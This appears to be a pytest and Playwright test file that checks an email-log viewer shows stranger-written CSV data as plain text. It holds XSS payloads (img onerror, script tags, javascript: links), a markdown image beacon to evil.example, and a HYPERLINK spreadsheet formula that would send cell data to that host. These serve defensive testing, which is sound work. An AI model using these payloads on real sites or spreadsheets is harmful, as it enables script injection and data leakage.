"""What strangers wrote into a log stays text: nothing runs, is drawn, or is fetched."""

import csv
import io
import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import expect

from browser.conftest import Visit
from browser.reader import TITLES, Reader
from browser.serving import Server, command, serving

IMAGE = "![x](https://evil.example/t.png)"
BOLD, RED, TEX = "**hostilebold**", ":red[hostilered]", "$hostile^{tex}$"
MARKDOWN = (
    f"{IMAGE} {BOLD} {RED} {TEX} [hostilelink](javascript:window.__xss=1) https://evil.example"
)
HTML = (
    "<img src=x onerror=window.__xss=2> <script>window.__xss=3</script> "
    '<a href="javascript:window.__xss=4">hostile</a>'
)
FORMULA = '=HYPERLINK("https://evil.example/?"&A2;"hostile")'
HOSTILE = [MARKDOWN, HTML, FORMULA]
SHOP = f"{IMAGE} {BOLD}"
HEADINGS = ("Dato", "Mail type", "Mottaker", "Emne", "Status", "Feiler", "Feillogg", "Ordrenr")
DOMAINS = [IMAGE, BOLD, RED, TEX]
TRIGGERS = tuple("=+-@\t\r")
# Elements that only markup can have made, and words that have lost their marks.
MADE = """
() => [
    ...document.querySelectorAll(
        "[src*=evil], [href*=evil], [href^=javascript i], [onerror], .katex, main iframe"
    )
].map((element) => element.outerHTML)
"""
UNMARKED = re.compile(r"(?<!\*\*)hostilebold|(?<!:red\[)hostilered|(?<!\[)hostilelink")


def table(headings: tuple[str, ...], rows: list[list[str]]) -> str:
    """Return a table as a Norwegian shop platform writes it."""
    text = io.StringIO()
    writer = csv.writer(text, delimiter=";", lineterminator="\n")
    writer.writerows([list(headings), *rows])
    return text.getvalue()


def log() -> str:
    """Return a log with everything hostile in every column that takes text, and rejected rows."""
    moment = "03.11.2026 07:02"
    rows = [
        [moment, text, f"kari{place}@prove.example", text, "Feilet", "Ja", f"550 {text}", text]
        for place, text in enumerate(HOSTILE)
    ]
    rows += [
        [moment, "Nyhetsbrev", f"ola@{domain}", domain, "Sendt", "Nei", "", ""]
        for domain in DOMAINS
    ]
    rows += [[text, text, text, text, text, text, text, text] for text in HOSTILE]
    return table(HEADINGS, rows)


def hold_still(reader: Reader) -> None:
    """Check that nothing on the page is more than text."""
    reader.settle()
    assert reader.page.evaluate(MADE) == []
    assert not UNMARKED.search(reader.page.locator("body").inner_text())
    assert reader.page.evaluate("window.__xss") is None


@pytest.fixture(scope="module")
def hostile_shop(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """Give a shop whose log, name and file name were all written by strangers."""
    folder = tmp_path_factory.mktemp("hostile")
    export = folder / f"<img src=x onerror=window.__xss=5> {BOLD}.csv"
    export.write_text(log(), encoding="utf-8")
    command(folder / "data", "import", export, "--shop", SHOP)
    with serving(folder / "data") as server:
        yield server


def test_no_page_takes_a_hostile_value_for_markup(visit: Visit, hostile_shop: Server) -> None:
    reader = visit(hostile_shop, language="nb")
    for title in TITLES.values():
        reader.go(title["nb"])
        hold_still(reader)


def test_opened_e_mails_show_what_strangers_wrote_as_it_is(
    visit: Visit, hostile_shop: Server
) -> None:
    reader = visit(hostile_shop, "email_log?outcome=failed")
    assert reader.count() == len(HOSTILE)
    opened = reader.page.get_by_role("dialog")
    for row in range(len(HOSTILE)):
        reader.click_row(row)
        answer = opened.get_by_test_id("stCode").first
        expect(answer).to_contain_text("550 ")
        said = answer.inner_text()
        assert said.removeprefix("550 ") in HOSTILE
        hold_still(reader)
        reader.close_mail()


def test_a_customer_with_a_hostile_address_is_told_of_as_any_other(
    visit: Visit, hostile_shop: Server
) -> None:
    reader = visit(hostile_shop, "customer")
    reader.write("Who is it about?", "ola@")
    reader.see(f"{len(DOMAINS)} recipients fit")
    hold_still(reader)
    for who in (f"ola@{DOMAINS[0]}", "kari0@prove.example"):
        reader.write("Who is it about?", who)
        reader.see("What was sent, newest first")
        for part in reader.page.get_by_test_id("stExpander").locator("summary").all():
            part.click()
        expect(reader.page.get_by_test_id("stTabs").get_by_test_id("stCode").first).to_contain_text(
            SHOP
        )
        hold_still(reader)


def test_rejected_rows_and_unknown_tables_stay_text(visit: Visit, hostile_shop: Server) -> None:
    reader = visit(hostile_shop, "imports")
    reader.click_row(0)
    expect(reader.page.get_by_role("button", name="Download")).to_be_visible()
    hold_still(reader)
    headings = (BOLD, "<img src=x onerror=window.__xss=6>", RED)
    rows = [[MARKDOWN, "kari@prove.example", text] for text in HOSTILE]
    reader.import_file(f"{RED} <img src=x onerror=window.__xss=7>.csv", table(headings, rows))
    reader.see("What is in the columns of this file?")
    for label, heading in zip(
        ("Time of sending *", "Recipient *", "Outcome"), headings, strict=True
    ):
        reader.choose(label, heading)
    reader.see("These would be rejected")
    hold_still(reader)


def test_no_cell_of_a_download_starts_a_formula(visit: Visit, hostile_shop: Server) -> None:
    reader = visit(hostile_shop, "email_log?outcome=failed")
    with reader.page.expect_download() as started:
        reader.take_away("CSV")
    with started.value.path().open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert {row["Subject"].removeprefix("'") for row in rows} == set(HOSTILE)
    cells = [cell for row in rows for cell in row.values()]
    assert [cell for cell in cells if cell.startswith(TRIGGERS)] == []
